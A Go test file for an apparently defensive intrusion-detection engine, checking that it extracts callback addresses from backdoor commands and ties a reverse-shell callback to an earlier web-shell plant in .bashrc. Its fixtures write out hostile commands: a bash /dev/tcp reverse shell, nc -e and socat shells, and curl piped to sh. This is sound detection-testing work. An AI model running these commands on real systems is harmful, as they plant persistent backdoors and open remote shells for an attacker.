@@ -1,0 +1,71 @@
+package detect
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/auditchain/auditchain/parser"
+)
+
+// TestNamedPeers: the address forms a backdoor's command carries.
+func TestNamedPeers(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want []plantKey
+	}{
+		{"echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> ~/.bashrc", []plantKey{{ip: "203.0.113.9", port: 4444}}},
+		{"* * * * * nc 198.51.100.7 9001 -e /bin/sh", []plantKey{{ip: "198.51.100.7", port: 9001}}},
+		{"socat tcp:198.51.100.7:8443 exec:sh", []plantKey{{ip: "198.51.100.7", port: 8443}}},
+		{"curl -s http://192.0.2.4/b | sh", []plantKey{{ip: "192.0.2.4", port: 80}}},
+		{"curl -s https://192.0.2.4:8443/b", []plantKey{{ip: "192.0.2.4", port: 8443}}},
+		{"ping -c 1 192.0.2.4", nil},           // no port: no callback to match
+		{"nc 0.0.0.0 4444", nil},               // unspecified is no peer
+		{"echo 300.1.1.1:80", nil},             // not an address
+		{"sleep 10; echo version 1.2.3.4", nil}, // a version, no port
+	} {
+		if got := namedPeers(c.cmd); !slices.Equal(got, c.want) {
+			t.Errorf("namedPeers(%q) = %v, want %v", c.cmd, got, c.want)
+		}
+	}
+}
+
+// TestBackdoorCallback: a web shell appends a reverse shell to the web
+// account's ~/.bashrc; later a login shell of that account connects to
+// the named address: the callback, on stage 7, quoting the plant. The
+// planting command's own connection and a connection to another port are
+// not callbacks.
+func TestBackdoorCallback(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := newSynth()
+	s.exec(10, 1, 33, "www-data", "/var/www/html", "/usr/sbin/php-fpm8.2", "php-fpm")
+	plantCmd := "echo 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' >> /var/www/.bashrc"
+	fs := e.Observe(s.exec(20, 10, 33, "www-data", "/var/www/html", "/usr/bin/dash", "sh", "-c", plantCmd), s.tree)
+	if f := has(fs, "web-server-exploitation"); f == nil || f.Stage != StagePersistence {
+		t.Fatalf("plant: %v", ids(fs))
+	}
+	e.Observe(s.file(parser.KindFileWrite, 20, 10, 33, "/usr/bin/dash", "/var/www/.bashrc", true), s.tree)
+	// the planting command's own connection is the reverse shell, not a callback
+	if fs := e.Observe(s.connect(20, 10, 33, "/usr/bin/dash", "203.0.113.9", 4444), s.tree); has(fs, "backdoor-callback") != nil {
+		t.Errorf("the planter's own connect is a callback: %v", ids(fs))
+	}
+	// a login shell of the account, started by sshd, reads the profile
+	s.exec(30, 1, 0, "root", "/", "/usr/sbin/sshd", "sshd")
+	s.exec(40, 30, 33, "www-data", "/var/www", "/usr/bin/bash", "-bash")
+	if fs := e.Observe(s.connect(40, 30, 33, "/usr/bin/bash", "203.0.113.7", 4444), s.tree); has(fs, "backdoor-callback") != nil {
+		t.Errorf("another address is a callback: %v", ids(fs))
+	}
+	fs = e.Observe(s.connect(40, 30, 33, "/usr/bin/bash", "203.0.113.9", 4444), s.tree)
+	f := has(fs, "backdoor-callback")
+	if f == nil {
+		t.Fatalf("no callback: %v", ids(fs))
+	}
+	if f.Stage != StageCommandAndControl || f.Severity != SeverityHigh {
+		t.Errorf("callback on %v at %v, want command-and-control, high", f.Stage, f.Severity)
+	}
+	if len(f.Related) == 0 || f.Related[len(f.Related)-1].PID != 20 {
+		t.Errorf("the plant is not quoted beside the callback: %v", f.Related)
+	}
+}
